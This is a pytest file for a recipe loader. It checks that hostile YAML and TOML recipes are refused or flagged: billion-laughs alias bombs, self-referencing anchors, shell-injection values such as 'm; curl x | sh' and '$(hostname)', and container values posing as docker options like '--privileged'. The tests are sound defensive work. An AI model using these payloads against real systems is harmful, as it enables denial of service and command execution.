"""Hostile recipe files (issue 20, item 9): every one is read or refused in one line naming the file and line,
in bounded time and memory; and what PyYAML's safe loader accepts (merge keys) is accepted, because the
runners that read these recipes use it. Each case here was an internal error or an unbounded run before."""

from __future__ import annotations

import io
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from sparkdoctor import recipes
from sparkdoctor.recipes import RecipeError

REPO = Path(__file__).resolve().parent.parent.parent


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


def laughs(levels: int, width: int = 9, field: str = "mods") -> str:
    """A eugr recipe whose `field` is a billion-laughs tree of width**levels strings, built from
    (levels - 1) * width + 1 aliases."""
    lines = ['recipe_version: "1"', "name: x", "container: c", "command: vllm serve m",
             "a0: &a0 [" + ", ".join(["lol"] * width) + "]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * width) + "]" for i in range(1, levels)]
    lines.append(f"{field}: *a{levels - 1}")
    return "\n".join(lines) + "\n"


def test_a_billion_laughs_under_100_aliases_is_refused_by_its_expanded_size(tmp_path):
    text = laughs(levels=8)  # 64 aliases, 9**8 = 43 million strings once built
    assert text.count("*a") < 100
    path = write(tmp_path, "laughs.yaml", text)
    started = time.process_time()
    with pytest.raises(RecipeError, match=r"laughs.yaml: line \d+: its aliases expand it to over 200,000 nodes"):
        recipes.load(path)
    assert time.process_time() - started < 5  # before any expansion: the graph is sized, not built


def test_recipe_show_of_a_bomb_is_one_line_in_bounded_memory(tmp_path):
    """The CLI the issue measured at 1.7 GB and growing: now one line, exit 2, a small resident set."""
    path = write(tmp_path, "laughs.yaml", laughs(levels=8))
    probe = ("import resource, runpy, sys; sys.argv = ['sparkdoctor', 'recipe', 'show', '-f', 'json', sys.argv[1]]\n"
             "try:\n    runpy.run_module('sparkdoctor', run_name='__main__')\n"
             # VmHWM, not ru_maxrss: ru_maxrss outlives exec, so it reports the (large) pytest worker this was forked from
             "finally:\n    hwm = [l for l in open('/proc/self/status') if l.startswith('VmHWM:')][0].split()[1]\n"
             "    sys.stderr.write('RSS %s\\n' % hwm)\n")
    p = subprocess.run([sys.executable, "-c", probe, str(path)], capture_output=True, text=True, timeout=120, cwd=REPO)
    lines = p.stderr.splitlines()
    assert p.returncode == 2 and len(lines) == 2 and "expand it to over" in lines[0], p.stderr[-2000:]
    assert int(lines[1].split()[1]) < 400_000, lines[1]  # KiB: well under the gigabytes a built bomb takes


def test_many_aliases_that_expand_to_little_are_accepted(tmp_path):
    """The cap is on what the aliases expand to, not on how many there are."""
    lines = ["model: m", "base: &b {port: 8000}", "defaults: *b"] + [f"x{i}: *b" for i in range(300)]
    assert recipes.load(write(tmp_path, "many.yaml", "\n".join(lines) + "\n")).port == 8000


@pytest.mark.parametrize("text", [
    "model: m\na: &x [*x]\n",
    "model: m\nruntime: vllm\ndefaults: &d\n  a: *d\n",
    'recipe_version: "1"\nname: x\ncontainer: c\ncommand: vllm serve m\nmods: &m [1, *m]\n',
    "&k {*k : 1}\n",
    "model: m\nbase: &b {<<: *b, port: 1}\n",
], ids=["list", "mapping", "eugr-mods", "key", "merge"])
def test_a_self_referencing_anchor_is_refused_naming_its_line(tmp_path, text):
    path = write(tmp_path, "self.yaml", text)
    with pytest.raises(RecipeError, match=r"self.yaml: line \d+: an anchor contains an alias of itself") as info:
        recipes.load(path)
    assert "\n" not in str(info.value)


@pytest.mark.parametrize("text, match", [
    ('model: "a\x01b"\n', r"line 1: not valid YAML: character #x0001 is not allowed"),
    ("model: m\ndefaults:\n  port: \x07\n", r"line 3: not valid YAML: character #x0007 is not allowed"),
    ("model: m\ndefaults:\n  port: " + "9" * 5000 + "\n", r"line 3: not valid YAML: a value YAML cannot read: an integer of over 4,300 digits"),
    ("model: m\nwhen: 2026-13-45\n", r"line 2: not valid YAML: a value YAML cannot read: month must be in 1..12"),
    ('model: m\nenv: {A: "x\\ud800y"}\n', r"line 2: not valid YAML: a string holds a lone surrogate"),
], ids=["control-char", "bell", "int-5000-digits", "month-13", "lone-surrogate"])
def test_values_yaml_cannot_build_are_one_line_naming_the_line(tmp_path, text, match):
    path = write(tmp_path, "bad.yaml", text)
    with pytest.raises(RecipeError, match=match) as info:
        recipes.load(path)
    assert str(info.value).startswith(f"{path}:") and "\n" not in str(info.value)


def test_an_integer_over_4300_digits_in_a_toml_recipe(tmp_path):
    path = write(tmp_path, "big.toml", 'schema = 1\nname = "x"\ncommand = ["vllm", "serve", "m"]\nport = ' + "9" * 5000 + "\n")
    with pytest.raises(RecipeError, match=r"big.toml: not valid TOML: Exceeds the limit \(4300 digits\)"):
        recipes.load(path)


MERGED = """\
base: &base
  port: 8000
  max_model_len: 4096
model: org/m
runtime: vllm
defaults:
  <<: *base
  max_model_len: 8192
"""


def test_yaml_merge_keys_are_read_as_the_safe_loader_reads_them(tmp_path):
    path = write(tmp_path, "merged.yaml", MERGED)
    recipe = recipes.load(path)
    expected = yaml.safe_load(MERGED)["defaults"]  # what sparkrun's own loader makes of it
    assert expected == {"port": 8000, "max_model_len": 8192}
    assert recipe.port == 8000 and recipe.params["max_model_len"] == "8192"
    assert not any("twice" in w for w in recipe.warnings)  # overriding a merged key is not a duplicate


def test_a_key_written_twice_beside_a_merge_is_still_reported(tmp_path):
    path = write(tmp_path, "dup.yaml", MERGED + "  max_model_len: 2048\n")
    recipe = recipes.load(path)
    assert recipe.params["max_model_len"] == "2048"
    assert any("'max_model_len' appears twice (lines 8 and 9)" in w for w in recipe.warnings), recipe.warnings


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
@pytest.mark.parametrize("name", ["r.yaml", "r.toml"])
def test_a_fifo_named_like_a_recipe_is_refused_without_blocking(tmp_path, name):
    os.mkfifo(tmp_path / name)
    p = subprocess.run([sys.executable, "-m", "sparkdoctor", "recipe", "show", str(tmp_path / name)],
                       capture_output=True, text=True, timeout=60, cwd=REPO)
    assert p.returncode == 2 and p.stderr.count("\n") == 1 and f"{name}: a FIFO (named pipe), not a recipe file" in p.stderr, p.stderr


def test_recipe_show_has_the_run_wide_time_limit(tmp_path):
    path = write(tmp_path, "ok.yaml", MERGED)
    p = subprocess.run([sys.executable, "-m", "sparkdoctor", "recipe", "show", str(path), "--timeout", "nan"],
                       capture_output=True, text=True, timeout=60, cwd=REPO)
    assert p.returncode == 2 and "--timeout nan: give a number of seconds above 0" in p.stderr
    p = subprocess.run([sys.executable, "-m", "sparkdoctor", "recipe", "show", str(path), "--timeout", "30", "-f", "json"],
                       capture_output=True, text=True, timeout=60, cwd=REPO)
    assert p.returncode == 0 and '"max_model_len": "8192"' in p.stdout


def test_a_huge_value_is_shown_cut_on_the_console_and_whole_in_json(tmp_path):
    """Laying out 3 MB of one value took rich 6-8 s of CPU per value (found by tests/test_fuzz_inputs.py)."""
    import io
    import json

    from rich.console import Console

    from sparkdoctor.emit import render
    from sparkdoctor.result import Format, Result
    from sparkdoctor.views.recipe import render_console

    big = "word " * 600_000
    path = write(tmp_path, "big.toml", f'schema = 1\nname = "x"\nmodel = "m"\ncommand = ["vllm", "serve", "{big}"]\n'
                                      f'description = "{big}"\n[env]\nA = "{big}"\n')
    recipe = recipes.load(path)
    console = Console(file=io.StringIO(), width=100)
    started = time.process_time()
    render_console(recipe, console)
    assert time.process_time() - started < 5
    assert "(3,000,000 characters; -f json has it whole)" in console.file.getvalue()
    assert json.loads(render(Result("recipe show", "recipe", recipe), Format.json))["recipe"]["env"]["A"] == big  # as `recipe show -f json`


@pytest.mark.parametrize("name, text, words", [
    ("r.yaml", 'recipe_version: "2"\nmodel: m\ncommand: vllm serve m\nenv:\n  "D=E": "1"\n', "'D=E', which is not an environment variable name"),
    ("r.yaml", 'recipe_version: "2"\nmodel: m\ncommand: vllm serve m\nenv:\n  "": "1"\n', "'', which is not an environment variable name"),
    ("r.yaml", 'recipe_version: "2"\nmodel: m\ncommand: vllm serve m\nenv:\n  "B\\nC": "1"\n', "which is not an environment variable name"),
    ("r.toml", 'name = "x"\nmodel = "m"\ncommand = ["vllm", "serve", "m"]\n[env]\nX = "a\\u0000b"\n', "'env.X' holds a NUL byte"),
])
def test_an_env_that_no_process_can_be_given_is_refused_when_read(tmp_path, name, text, words):
    """`recipe show` and `recipe check` accepted these and printed the newline raw; `bench` then failed at launch with
    "illegal environment variable name" / "embedded null byte" and exit 4, as if the server had failed."""
    path = write(tmp_path, name, text)
    with pytest.raises(RecipeError) as caught:
        recipes.load(path)
    assert words in str(caught.value) and "\n" not in str(caught.value)
    p = subprocess.run([sys.executable, "-m", "sparkdoctor", "recipe", "show", str(path)], capture_output=True, text=True,
                       timeout=120)
    assert p.returncode == 2 and p.stderr.count("\n") == 1 and words in p.stderr, p.stderr



EUGR = 'recipe_version: "1"\nname: r\ncontainer: c\ndefaults:\n  port: 8000\ncommand: |\n  {}\n'


@pytest.mark.parametrize("command, operator", [
    ("pip install flashinfer-python && vllm serve m --port {port}", "'&&'"),  # argv: pip asked for a package `vllm`
    ("vllm serve m --port {port} 2>&1 | tee serve.log", "'>&'"),
    ("vllm serve m --port {port} ; sleep 1", "';'"),
    ("vllm serve m --port {port} --served-model-name $(hostname)", "'$('"),
    ('vllm serve m --port {port} --served-model-name "`id -un`"', "'`'"),
    ("cd /models \\\n  && vllm serve m --port {port}", "'&&'"),
    ("pip install flashinfer-python\n  vllm serve m --port {port}", "a second line"),  # no backslash: two commands
    # bash: the comment swallows its line's backslash, so the line break ends `vllm serve m` and `--port` runs alone
    ("vllm serve m \\\n  # --enforce-eager \\\n  --port {port}", "a second line"),
    ("vllm serve m --hf-overrides '{{\n  \"a\": 1\n  }}'\n  --port {port}", "a second line"),  # the break after the quote
    # a parameter expansion: the runner's shell puts the value in; started without one, vLLM got `${HF_HOME}/hub`
    ("vllm serve m --port {port} --download-dir ${{HF_HOME}}/hub", "'${HF_HOME}'"),
    ('vllm serve m --port {port} --served-model-name "$USER-model"', "'$USER'"),
    ("vllm serve m --port {port} --served-model-name 'it'\\''s' $1", "'$1'"),
])
def test_a_command_only_a_shell_runs_is_read_and_bench_refuses_to_launch_it(tmp_path, command, operator):
    """sparkdoctor runs argv, never a shell: split as argv, `pip install x && vllm serve m` ran pip with the
    arguments `&&`, `vllm`, `serve` (packages to install). The recipe's own runner hands the line to bash, so
    `recipe show` and `recipe check` still read it (with a warning); `bench` refuses it in one line, exit 2, before
    anything starts."""
    path = write(tmp_path, "r.yaml", EUGR.format(command))
    recipe = recipes.load(path)
    assert recipe.shell == operator
    assert any(f"field 'command': {operator} makes it a shell line" in w for w in recipe.warnings), recipe.warnings
    shown = subprocess.run([sys.executable, "-m", "sparkdoctor", "recipe", "show", str(path)], capture_output=True,
                           text=True, timeout=120)
    assert shown.returncode == 0 and "makes it a shell line" in shown.stdout + shown.stderr
    bench = subprocess.run([sys.executable, "-m", "sparkdoctor", "bench", str(path), "--local", "--python", sys.executable],
                           capture_output=True, text=True, timeout=120)
    assert bench.returncode == 2 and bench.stderr.count("\n") == 1, bench.stderr
    assert f"{operator} makes the command a shell line" in bench.stderr and "never a shell" in bench.stderr


@pytest.mark.parametrize("command", [
    "vllm serve m --port {port} --chat-template-content-format \"a && b\"",
    "vllm serve m --port {port} --served-model-name 'x;y' --override-generation-config '{{\"a\": \"$(no)\"}}'",
    "vllm serve m --port {port} --hf-overrides '{{\"rope_scaling\": {{\"factor\": 4}}}}'",
    "# a comment line before the command\n  vllm serve m \\\n  --port {port}  # a comment after it",
    "vllm serve m \\\n  --hf-overrides '{{\n    \"rope_scaling\": {{\"factor\": 4}}\n  }}' \\\n  --port {port}",
    "vllm serve m --port {port} --served-model-name '$USER' --chat-template-content-format \\$x --x \"it's\" 'a\"$b'",
    "vllm serve m --port {port} --served-model-name price-in-$ --x 'c\"d' --y US$",
])
def test_quoted_operators_are_arguments(tmp_path, command):
    recipe = recipes.load(write(tmp_path, "r.yaml", EUGR.format(command)))
    assert recipe.argv[:3] == ["vllm", "serve", "m"] and recipe.shell is None and not recipe.warnings
    assert "--port" in recipe.argv and "#" not in "".join(recipe.argv)


def test_a_quoted_argument_over_several_lines_keeps_its_line_breaks(tmp_path):
    """bash keeps the line breaks inside quotes; the old reader joined the lines with spaces and took the lines
    after the first for second commands, so bench refused a recipe its own runner starts."""
    command = "vllm serve m \\\n  --override-generation-config '{{\n    \"temperature\": 0.6\n  }}' \\\n  --port {port}"
    recipe = recipes.load(write(tmp_path, "r.yaml", EUGR.format(command)))
    assert recipe.shell is None and not recipe.warnings
    assert recipe.argv[3:5] == ["--override-generation-config", '{\n  "temperature": 0.6\n}']


def test_a_sparkrun_default_that_a_shell_would_split_is_marked(tmp_path):
    """sparkrun joins the defaults into one line that bash runs: a `served_model_name: "m; curl x | sh"` runs a
    second command there; sparkdoctor says so and will not launch it, instead of passing `;` to vLLM."""
    path = write(tmp_path, "r.yaml", "model: m\nruntime: vllm\ndefaults:\n  port: 8000\n  served_model_name: 'm; curl x | sh'\n")
    recipe = recipes.load(path)
    assert recipe.shell == "';'"
    assert any("the command sparkrun builds from defaults: ';' makes it a shell line" in w for w in recipe.warnings)


def test_a_command_whose_last_line_ends_in_a_backslash_reads(tmp_path):
    """YAML's `|-` chomps the last line break, so a command written with a backslash after its last flag ends in `\\`:
    bash runs it whole; the quote-aware reader took that backslash for an escape with nothing after it."""
    text = 'recipe_version: "1"\nname: r\ncontainer: c\ndefaults:\n  port: 8000\ncommand: |-\n  vllm serve m \\\n    --port {port} \\\n'
    recipe = recipes.load(write(tmp_path, "r.yaml", text))
    assert recipe.argv[:5] == ["vllm", "serve", "m", "--port", "8000"] and recipe.shell is None


@pytest.mark.parametrize("fmt, text", [
    ("eugr", "recipe_version: '1'\nname: x\ncontainer: '--privileged'\nmodel: m\ncommand: vllm serve m\n"),
    ("sparkrun", "name: x\nmodel: m\ncontainer: ' -v=/:/host'\ncommand: vllm serve m\n"),
])
def test_a_container_that_reads_as_an_option_is_refused(tmp_path, fmt, text):
    """`container: --privileged` was accepted and reached `docker image inspect` as its option (the inspect failed,
    so the launch went no further): an image name never starts with "-"."""
    with pytest.raises(RecipeError, match="is not an image name"):
        recipes.load(write(tmp_path, f"{fmt}.yaml", text))


def test_a_control_character_in_a_value_keeps_the_recipe_table_in_its_columns(tmp_path):
    """An ESC or NUL in a third-party recipe's value prints escaped (`\\x1b`, 4 characters), but the table was laid out
    for the raw character (width 0): the value ran into the `from` column and that column was cut short."""
    path = write(tmp_path, "r.yaml", 'recipe_version: "2"\nmodel: "m\\e[31mred"\ncommand: vllm serve {model}\n'
                                     'env:\n  A: "\\e[2J\\ax"\n  B: plain\n')
    out = subprocess.run([sys.executable, "-m", "sparkdoctor", "recipe", "show", str(path)], capture_output=True,
                         text=True, env={**os.environ, "COLUMNS": "200"}, timeout=60).stdout
    assert "\x1b" not in out and "\x00" not in out
    rows = {line.split()[0] + " " + line.split()[1]: line for line in out.splitlines() if line.startswith(("env ", "model "))}
    assert rows["env A"].index(" env", 10) == rows["env B"].index(" env", 10) == rows["model m\\x1b[31mred"].index(" model field")
    assert rows["env A"].split()[2] == "\\x1b[2J\\x07x"


def test_a_model_the_command_names_itself_is_shown_as_the_commands(tmp_path):
    """A real sparkrun recipe (mfellner/sparkrun-recipes, glm-5.2-nvfp4-aqlm-triple-dgx-spark-vision-348k.yaml) serves a
    snapshot folder its command names, not its `model:` hub id: the folder was shown as coming from the model field."""
    from rich.console import Console

    from sparkdoctor.views.recipe import render_console

    recipe = recipes.load(REPO / "tests" / "data" / "recipes" / "mfellner-glm-5.2-vision-348k.yaml")
    assert recipe.model is not None and recipe.model.startswith("/cache/huggingface/hub/") and recipe.params["model"] != recipe.model
    console = Console(file=io.StringIO(), width=400)
    render_console(recipe, console)
    row = next(line for line in console.file.getvalue().splitlines() if line.startswith("model "))
    assert row.split()[1:] == [recipe.model, "the", "command"]
    plain = recipes.load(write(tmp_path, "r.yaml", 'recipe_version: "2"\nmodel: org/m\ncommand: vllm serve {model}\n'))
    console = Console(file=io.StringIO(), width=400)
    render_console(plain, console)
    assert any(line.startswith("model ") and "model field (always injected)" in line for line in console.file.getvalue().splitlines())


@pytest.mark.parametrize("written", ["./models/tiny", "models/tiny", "~/models/tiny"])
def test_a_model_folder_named_relative_to_the_working_folder_reaches_the_server_by_its_absolute_path(
        tmp_path, monkeypatch, written):
    """`bench r.toml --set model=./models/tiny` (docs/recipes.md's own example): the memory preflight and recipe check
    read the folder from the working folder, but the server starts in its run folder, where vLLM took
    './models/tiny' for a hub id and died (HFValidationError). Launched, the folder goes by its absolute path; a
    hub id, and a path that is no folder here, are passed as written."""
    from sparkdoctor.recipes.vllm_config import launched_argv

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "models" / "tiny").mkdir(parents=True)
    recipe = tmp_path / "r.toml"
    recipe.write_text('schema = 1\nname = "r"\nmodel = "x"\n'
                      'command = ["python", "srv.py", "{model}", "--tokenizer", "{model}"]\n')
    folder = str(tmp_path / "models" / "tiny")
    argv = launched_argv(recipes.load(recipe, {"model": written}))
    assert argv == ["python", "srv.py", folder, "--tokenizer", folder], argv  # not vLLM: no flag of vLLM's added
    for kept in ("org/name", "./not-here"):
        assert launched_argv(recipes.load(recipe, {"model": kept}))[2] == kept
    # no --served-model-name: vLLM names the model by the path it was given; clients send the one written
    recipe.write_text('schema = 1\nname = "r"\nmodel = "x"\ncommand = ["/v/bin/vllm", "serve", "{model}"]\n')
    argv = launched_argv(recipes.load(recipe, {"model": written}))
    assert argv == ["/v/bin/vllm", "serve", folder, "--served-model-name", written], argv
